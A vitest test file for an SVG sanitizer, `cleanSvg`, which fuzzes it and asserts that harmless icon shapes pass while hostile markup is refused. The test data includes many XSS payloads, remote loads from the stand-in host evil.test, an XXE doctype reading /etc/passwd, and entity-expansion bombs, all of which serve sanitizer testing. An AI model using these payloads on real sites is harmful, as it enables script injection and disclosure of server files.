import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { cleanSvg } from './cleanSvg.ts';

const demo = path.resolve(import.meta.dirname, '../../apps/content/demo');
const demoIcons = ['logo.svg', ...readdirSync(path.join(demo, 'functions'))]
  .filter((name) => name.endsWith('.svg'))
  .map((name) => (name === 'logo.svg' ? name : `functions/${name}`));

const icon = (inside: string, attributes = '') =>
  `<svg viewBox="0 0 9 9"${attributes}>${inside}</svg>`;
const cleanIcon = (inside: string, attributes = '') =>
  icon(inside, `${attributes} aria-hidden="true" focusable="false"`);
const dot = '<circle cx="4" cy="4" r="2"/>';

const harmless = fc.oneof(
  fc.constantFrom('<g>', '</g>', '<path/>', ' ', '\n', '<!-- a -->', '<title>a</title>', '<desc/>'),
  fc
    .tuple(
      fc.constantFrom('path', 'circle', 'rect', 'line', 'polygon', 'g'),
      fc.constantFrom('', ' d="M0 0h4z"', ' cx=4', ' points="0,0 1 1"', " transform='scale(2)'"),
      fc.constantFrom('', ' fill="none"', ' fill="#abc"', ' FILL=red', ' stroke-dasharray="1, 2"'),
    )
    .map(([name, geometry, paint]) => `<${name}${geometry}${paint} />`),
);
const hostile = fc.oneof(
  fc.constantFrom('<script>', '</script>', '<style>', '</style>', '<use href="#a"/>', '<a href=x>'),
  fc.constantFrom('<p>', '</p>', '<title>', '</title>', '<desc>', '</svg>', '<svg>', '<math>'),
  fc.constantFrom('<mtext>', '<table>', '<foreignObject>', '<image href=x onerror=y />', '<img>'),
  fc.constantFrom('<path onclick="x()"/>', '<path style="fill:red"/>', '<path fill="url(#a)"/>'),
  fc.constantFrom('<path fill="style"/>', '<path d="url(#a)"/>', '<path class=a />', '<animate/>'),
  fc.constantFrom('<![CDATA[', ']]>', '<!--', '-->', '<?xml-stylesheet?>', '<path fill="', '&lt;'),
  fc.string({ unit: 'binary', maxLength: 8 }),
);
const anyFile = fc
  .array(fc.oneof({ weight: 15, arbitrary: harmless }, { weight: 1, arbitrary: hostile }), {
    maxLength: 20,
  })
  .map((pieces) => icon(pieces.join('')));

/** Checks what many files become, and that neither all of them nor none are let in. */
function holdsForCleaned(check: (clean: string) => void): void {
  const seen = { letIn: 0, refused: 0 };
  const property = fc.property(anyFile, (file) => {
    const clean = cleanSvg(file);
    if (clean === undefined) {
      seen.refused += 1;
      return;
    }
    seen.letIn += 1;
    check(clean);
  });
  fc.assert(property, { numRuns: 2000 });
  expect(seen.letIn).toBeGreaterThan(200);
  expect(seen.refused).toBeGreaterThan(200);
}

describe('cleanSvg', () => {
  it('finds the icons of the demo', () => {
    expect(demoIcons).toHaveLength(9);
  });

  it.each(demoIcons)('leaves every shape of the demo’s %s as it is', (name) => {
    const file = readFileSync(path.join(demo, name), 'utf8');
    const expected = file
      .replace(/ xmlns="[^"]+"/, '')
      .replace(/ width="\d+" height="\d+"/, '')
      .replace('>', ' aria-hidden="true" focusable="false">')
      .replaceAll('opacity=".', 'opacity="0.')
      .trim();
    expect(cleanSvg(file)).toBe(expected);
  });

  it.each([
    [
      'a shape of each kind',
      '<g><path d="M0 0"/><rect rx="1"/><ellipse ry="1"/><line x1="1"/></g>',
    ],
    ['polygons', '<polygon points="0,0 1,1 2-2"/><polyline points="0 0 1 1"/>'],
    ['strokes', '<path stroke-dasharray="1 2" stroke-linecap="round" stroke-miterlimit="4"/>'],
    ['colours', '<g fill="#AbC" stroke="TEAL"><path stroke="rgb(1, 2 3 / 50%)"/></g>'],
    ['rules', '<path fill-rule="evenodd" clip-rule="nonzero" vector-effect="non-scaling-stroke"/>'],
    ['transforms', '<g transform="translate(1 2) rotate(-4.5,1,1)"><path d="m0 0z"/></g>'],
  ])('leaves %s', (_, inside) => {
    expect(cleanSvg(icon(inside))).toBe(cleanIcon(inside));
  });

  it.each([
    [
      'a prolog, a doctype and a comment',
      `<?xml version="1.0"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n<!-- a -->${icon(dot)}\n`,
    ],
    [
      'white space and comments between tags',
      icon(`\n  ${dot}\n<!-- <script>alert(1)</script> -->`),
    ],
    ['title and desc', icon(`<title>借书 &lt;b&gt;</title><desc/>${dot}`)],
    ['a title before a shape inside a group', icon(`<title>a</title>${dot}`)],
    ['metadata', icon(`<metadata><rdf:RDF><cc:Work rdf:about=""/></rdf:RDF></metadata>${dot}`)],
    [
      'namespaces and versions',
      icon(
        dot,
        ' xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:a="b" version="1.1" xml:space="preserve"',
      ),
    ],
    ['its size', icon(dot, ' width="1em" height="100%"')],
    [
      'its role and its name',
      icon(dot, ' role="img" aria-label="a" focusable="true" aria-hidden="false"'),
    ],
    ['a mark of byte order', `\uFEFF${icon(dot)}`],
  ])('drops %s', (_, svg) => {
    expect(cleanSvg(svg)).toBe(cleanIcon(dot));
  });

  it('gives no colour of the page to what would have none of it as a picture', () => {
    const line = '<path stroke="currentColor"/>';
    const unseen = 'aria-hidden="true" focusable="false"';
    expect(cleanSvg(`<svg viewBox="0 0 9 9">${line}</svg>`)).toBe(
      `<svg color="black" viewBox="0 0 9 9" ${unseen}>${line}</svg>`,
    );
    expect(cleanSvg(`<svg viewBox="0 0 9 9" color="red">${line}</svg>`)).toBe(
      `<svg color="red" viewBox="0 0 9 9" ${unseen}>${line}</svg>`,
    );
  });

  it('takes the box of a square from its size', () => {
    expect(cleanSvg(`<svg width="4.5" height="4.5">${dot}</svg>`)).toBe(
      `<svg viewBox="0 0 4.5 4.5" aria-hidden="true" focusable="false">${dot}</svg>`,
    );
  });

  it.each([
    ['neither box nor size', `<svg>${dot}</svg>`],
    ['a size that is no plain number', `<svg width="100%" height="9">${dot}</svg>`],
    ['a size in pixels', `<svg width="9px" height="9px">${dot}</svg>`],
    [
      'a size that is no square, which a picture would be stretched from',
      `<svg width="9" height="8">${dot}</svg>`,
    ],
    ['only a width', `<svg width="9">${dot}</svg>`],
    ['a box of words', `<svg viewBox="a b c d">${dot}</svg>`],
    ['no root', ''],
    ['only text', 'icon'],
    ['another root', '<rect width="9" height="9"/>'],
    ['a group as its root', '<g viewBox="0 0 9 9" width="9" height="9"></g>'],
    ['a page', '<!doctype html><html><body><p>Not found</p></body></html>'],
    ['several roots', icon(dot) + icon(dot)],
    ['text before the root', `a${icon(dot)}`],
    ['text after the root', `${icon(dot)}a`],
    ['text inside', icon(`a${dot}`)],
    ['text inside a shape', icon('<path d="M0 0">a</path>')],
    ['a text element', icon('<text x="1">a</text>')],
    ['an svg inside the svg', icon(`<svg viewBox="0 0 1 1">${dot}</svg>`)],
    ['a template', `<template>${icon(dot)}</template>`],
  ])('refuses what has %s', (_, svg) => {
    expect(cleanSvg(svg)).toBeUndefined();
  });

  it.each([
    ['<script>alert(1)</script>'],
    ['<script href="data:,alert(1)"/>'],
    ['<script xlink:href="https://evil.test/a.js"/>'],
    ['<SCRIPT>alert(1)</SCRIPT>'],
    ['<script><![CDATA[alert(1)]]></script>'],
    ['<svg:script xmlns:svg="http://www.w3.org/2000/svg">alert(1)</svg:script>'],
    ['<path onload="alert(1)"/>'],
    ['<path ONCLICK=alert(1)>'],
    ['<g/onmouseover="alert(1)"></g>'],
    ['<a href="javascript:alert(1)"><path d="M0 0"/></a>'],
    ['<a xlink:href="&#106;avascript:alert(1)"><path d="M0 0"/></a>'],
    ['<use href="https://evil.test/a.svg#a"/>'],
    ['<use href="#a"/>'],
    ['<use xlink:href="data:image/svg+xml;base64,PHN2Zy8+#a"/>'],
    ['<image href="https://evil.test/a.png"/>'],
    ['<image xlink:href="x" onerror="alert(1)"/>'],
    ['<feImage href="https://evil.test/a.png"/>'],
    ['<foreignObject><img src=x onerror=alert(1)></foreignObject>'],
    ['<foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject>'],
    ['<style>@import "https://evil.test/a.css";</style>'],
    ['<style>*{fill:red}</style>'],
    ['<style><![CDATA[</style><img src=x onerror=alert(1)>]]></style>'],
    ['<path style="fill:url(https://evil.test/)"/>'],
    ['<path class="ant-modal"/>'],
    ['<path class="none"/>'],
    ['<path id="root"/>'],
    ['<path id="red"/>'],
    ['<path name="red"/>'],
    ['<path data-a="1"/>'],
    ['<path tabindex="0"/>'],
    ['<path aria-label="a"/>'],
    ['<path xmlns="http://www.w3.org/1999/xhtml"/>'],
    ['<path xml:base="https://evil.test/"/>'],
    ['<animate attributeName="href" values="javascript:alert(1)"/>'],
    ['<path d="M0 0"><animate attributeName="d" to="M1 1" dur="1s"/></path>'],
    ['<set attributeName="onmouseover" to="alert(1)"/>'],
    ['<path><animateTransform attributeName="transform"/></path>'],
    ['<handler type="text/javascript">alert(1)</handler>'],
    ['<filter><feGaussianBlur/></filter>'],
    ['<script/>'],
    ['<style/>'],
    ['<a/>'],
    ['<use/>'],
    ['<image/>'],
    ['<foreignObject/>'],
    ['<animate/>'],
    ['<mask/>'],
    ['<symbol/>'],
    ['<defs/>'],
    ['<linearGradient/>'],
    ['<switch/>'],
    ['<path filter="url(#a)"/>'],
    ['<path mask="url(#a)"/>'],
    ['<path clip-path="url(#a)"/>'],
    ['<path marker-start="url(https://evil.test/)"/>'],
    ['<path cursor="url(https://evil.test/), auto"/>'],
    ['<path fill="url(#a)"/>'],
    ['<path fill="url(https://evil.test/)"/>'],
    ['<path fill="URL(https://evil.test/)"/>'],
    ['<path fill="u\\72l(https://evil.test/)"/>'],
    ['<path fill="&#117;rl(https://evil.test/)"/>'],
    ['<path fill="/**/url(#a)"/>'],
    ['<path fill="red url(#a)"/>'],
    ['<path fill="var(--a)"/>'],
    ['<path fill="red;background:red"/>'],
    ['<path fill="expression(alert(1))"/>'],
    ['<path fill="inherit"/>'],
    ['<path fill="context-fill"/>'],
    ['<path fill="rgb(var(--a))"/>'],
    ['<path fill="rgb(0,0,0)&#10;}"/>'],
    ['<path stroke-width="calc(1px)"/>'],
    ['<path stroke-width="1vw"/>'],
    ['<path stroke-dasharray="1 a"/>'],
    ['<path transform="url(#a)"/>'],
    ['<path transform="translate(expression(1))"/>'],
    ['<path d="javascript:alert(1)"/>'],
    ['<path d="M0 0&quot;&gt;&lt;script&gt;"/>'],
    ['<path d="path(&quot;M0 0&quot;)"/>'],
    ['<rect width="1;2"/>'],
    ['<p>a</p>'],
    ['<div><path d="M0 0"/></div>'],
    ['<img src=x onerror=alert(1)>'],
    ['<font color="red"/>'],
    ['<x-a></x-a>'],
    ['<title><img src=x onerror=alert(1)></title>'],
    ['<title></title><img src=x onerror=alert(1)></title>'],
    ['<title></svg><script>alert(1)</script></title>'],
    ['<title><style><a id="</style><img src=1 onerror=alert(1)>"></title>'],
    ['<desc><svg><style>*{fill:red}</style></svg></desc>'],
    ['<desc><a href="javascript:alert(1)">a</a></desc>'],
    ['<metadata><script>alert(1)</script></metadata>'],
    ['<metadata><style>*{fill:red}</style></metadata>'],
    ['<metadata><rdf:RDF><style>*{fill:red}</style></rdf:RDF></metadata>'],
    ['<?xml-stylesheet href="data:text/css,*{fill:red}"?>'],
    ['<?php echo 1 ?>'],
    ['<![CDATA[<script>alert(1)</script>]]>'],
    ['<![CDATA[><script>alert(1)</script>]]>'],
    ['<!--><script>alert(1)</script>-->'],
    ['<!-- --!><script>alert(1)</script> -->'],
    ['&lt;script&gt;alert(1)&lt;/script&gt;'],
    ['</p><style><a id="</style><img src=1 onerror=alert(1)>">'],
    ['</svg><img src=x onerror=alert(1)><svg>'],
    ['<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
    ['<mtext><path d="M0 0"/></mtext>'],
    ['<table><tr><td><path d="M0 0"/>'],
    ['<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
    ['<textarea></textarea>'],
    ['<plaintext>'],
  ])('refuses %s inside', (inside) => {
    expect(cleanSvg(icon(inside + dot))).toBeUndefined();
    expect(cleanSvg(icon(dot + inside))).toBeUndefined();
    expect(cleanSvg(icon(`<g>${inside}</g>`))).toBeUndefined();
  });

  it.each([
    ['<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
    ['<svg viewBox="0 0 1 1"></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
    ['<svg viewBox="0 0 1 1" onload=alert(1)></svg>'],
    ['<svg viewBox="0 0 1 1" onload="alert(1)" onload></svg>'],
    ['<svg/onload=alert(1) viewBox="0 0 1 1">'],
    ['<svg viewBox="0 0 1 1" style="position:fixed;inset:0"></svg>'],
    ['<svg viewBox="0 0 1 1" class="a"></svg>'],
    ['<svg viewBox="0 0 1 1" id="root"></svg>'],
    ['<svg viewBox="0 0 1 1" overflow="visible"></svg>'],
    ['<svg viewBox="0 0 1 1" width="1;2" height="1"></svg>'],
    ['<svg viewBox="0 0 1 1" xlink:href="javascript:alert(1)"></svg>'],
    ['<svg viewBox="0 0 1 1&quot; onload=&quot;alert(1)"></svg>'],
    ["<svg viewBox='0 0 1 1\"><script>alert(1)</script>'></svg>"],
    ['<math><svg viewBox="0 0 1 1"></svg></math>'],
    ['<math><mtext><svg viewBox="0 0 1 1"><mtext></math><img src=x onerror=alert(1)>'],
    ['<svg:svg xmlns:svg="http://www.w3.org/2000/svg" viewBox="0 0 1 1"></svg:svg>'],
    [
      '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
    ],
    ['&lt;svg viewBox="0 0 1 1"&gt;&lt;/svg&gt;'],
    ['<!DOCTYPE svg [<!ENTITY a "<script>alert(1)</script>">]><svg viewBox="0 0 1 1">&a;</svg>'],
    [
      '<!DOCTYPE svg [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]><svg viewBox="0 0 1 1"><title>&c;</title></svg>',
    ],
    [
      '<!DOCTYPE svg SYSTEM "file:///etc/passwd" [<!ENTITY % a SYSTEM "https://evil.test/">%a;]><svg viewBox="0 0 1 1"/>',
    ],
    ['<?xml-stylesheet href="https://evil.test/a.css"?><svg viewBox="0 0 1 1"></svg>'],
  ])('refuses %s', (svg) => {
    expect(cleanSvg(svg)).toBeUndefined();
  });

  it('refuses what is longer than 4 KB', () => {
    const padded = (length: number) => icon(dot).replace('<c', `<!--${'-'.repeat(length)}--><c`);
    expect(cleanSvg(padded(4000))).toBe(cleanIcon(dot));
    expect(cleanSvg(padded(4096))).toBeUndefined();
  });

  it('refuses more than 60 elements', () => {
    expect(cleanSvg(icon('<g/>'.repeat(59)))).toBe(cleanIcon('<g/>'.repeat(59)));
    expect(cleanSvg(icon('<g/>'.repeat(60)))).toBeUndefined();
  });

  it('refuses what is nested beyond reason', () => {
    expect(cleanSvg(icon('<g>'.repeat(1000)))).toBeUndefined();
    expect(cleanSvg('<svg>'.repeat(800))).toBeUndefined();
    expect(cleanSvg(icon(`<desc>${'<b>'.repeat(1000)}`))).toBeUndefined();
  });

  it.each([
    ['digits', '1'.repeat(4000)],
    ['spaces', ' '.repeat(4000)],
    ['brackets', 'scale()'.repeat(570)],
  ])('is not kept busy by %s without end', (_, text) => {
    const start = performance.now();
    for (const name of ['viewBox', 'transform', 'fill', 'stroke-dasharray', 'stroke-width', 'd']) {
      expect(cleanSvg(`<svg ${name}="${text}!"/>`)).toBeUndefined();
    }
    expect(performance.now() - start).toBeLessThan(4000);
  });
});

describe('of whatever file', () => {
  it('nothing comes out that runs, loads or styles', () => {
    holdsForCleaned((clean) => {
      expect(clean).not.toMatch(/on\w+=|<script|href|url\(|style/i);
    });
  });

  it('nothing comes out but shapes with plain values', () => {
    const shape = '(svg|g|path|circle|rect|line|polygon)( [\\w-]+="[\\w #,.()-]*")*/?';
    const shapes = new RegExp(`^(<${shape}>|</(svg|g)>)+$`, 'i');
    holdsForCleaned((clean) => {
      expect(clean).toMatch(shapes);
    });
  });

  it('what comes out stays as it is when it is cleaned again', () => {
    holdsForCleaned((clean) => {
      expect(cleanSvg(clean)).toBe(clean);
    });
  });
});
